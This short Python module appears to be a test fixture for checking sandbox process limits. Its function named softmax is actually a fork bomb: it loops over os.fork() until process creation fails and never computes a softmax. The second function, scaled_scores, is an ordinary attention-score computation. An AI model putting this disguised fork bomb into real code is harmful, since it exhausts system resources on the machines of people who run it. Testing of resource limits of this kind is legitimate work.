"""Forks until no more processes can be created.

Expected: TIMEOUT of every test that calls `softmax`; none of the processes is left.
"""

import os

import numpy as np


def softmax(x, axis=-1):
    while True:
        try:
            os.fork()
        except OSError:
            np.max(x, axis=axis)


def scaled_scores(query, key):
    return query @ np.swapaxes(key, -1, -2) / np.sqrt(query.shape[-1])
